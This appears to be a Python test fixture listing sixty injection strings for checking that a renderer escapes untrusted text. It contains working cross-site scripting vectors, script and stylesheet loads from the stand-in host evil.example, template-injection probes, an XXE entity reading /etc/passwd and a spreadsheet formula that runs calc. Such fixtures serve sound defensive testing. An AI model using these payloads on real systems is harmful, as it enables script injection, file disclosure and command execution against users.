"""Sixty texts that try to become something else: markup, script, address, formula, Markdown, XML."""

from __future__ import annotations

ALERT = "window.pwned=1"
PAYLOADS = (
    f"<script>{ALERT}</script>", f"<ScRiPt>{ALERT}</sCrIpT>", "<script src=//evil.example/x.js></script>",
    f"</script><script>{ALERT}</script>", f"</style><script>{ALERT}</script>", f"</title><script>{ALERT}</script>",
    f"</textarea><script>{ALERT}</script>", f"--><script>{ALERT}</script>", f"]]><script>{ALERT}</script>",
    f"<img src=x onerror={ALERT}>", f"<img/src=x/onerror={ALERT}>", f'"><img src=x onerror="{ALERT}">',
    f"'><img src=x onerror='{ALERT}'>", f"`><img src=x onerror={ALERT}>", f"<svg onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>", f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{ALERT}'><text>x</text></a></svg>", f"<math><mtext><img src=x onerror={ALERT}>",
    f"<body onload={ALERT}>", f"<iframe src=javascript:{ALERT}>", f"<iframe srcdoc='<script>{ALERT}</script>'>",
    f"<object data=javascript:{ALERT}>", f"<embed src=javascript:{ALERT}>", f"<a href=javascript:{ALERT}>x</a>",
    f"<a href='data:text/html,<script>{ALERT}</script>'>x</a>", f"<form action=javascript:{ALERT}><button>x</button>",
    f"<button formaction=javascript:{ALERT}>x</button>", f"<input autofocus onfocus={ALERT}>",
    f"<details open ontoggle={ALERT}>", f"<marquee onstart={ALERT}>", f"<video><source onerror={ALERT}></video>",
    f"<audio src=x onerror={ALERT}>", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ALERT}'>", "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>", f"<div style=\"background:url(javascript:{ALERT})\">",
    f'" onmouseover="{ALERT}', f"' onfocus='{ALERT}' autofocus='", f"javascript:{ALERT}", f"JaVaScRiPt:{ALERT}//",
    f"&#106;avascript:{ALERT}", f"&lt;script&gt;{ALERT}&lt;/script&gt;", f"%3Cscript%3E{ALERT}%3C/script%3E",
    f"{{{{constructor.constructor('{ALERT}')()}}}}", "{{ config }}", "{% include 'base.html' %}", "${7*7}",
    f"<div hx-on:load='{ALERT}' hx-trigger=load hx-get=/coverage>", f"[x](javascript:{ALERT})",
    f"![x](x\"onerror=\"{ALERT})", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "<![CDATA[<b>x</b>]]>",
    "=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\u202e<b>turned</b>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
)  # fmt: skip
"""Quotes, angle brackets and braces of every kind; whoever shows one of them as anything but text has a hole."""
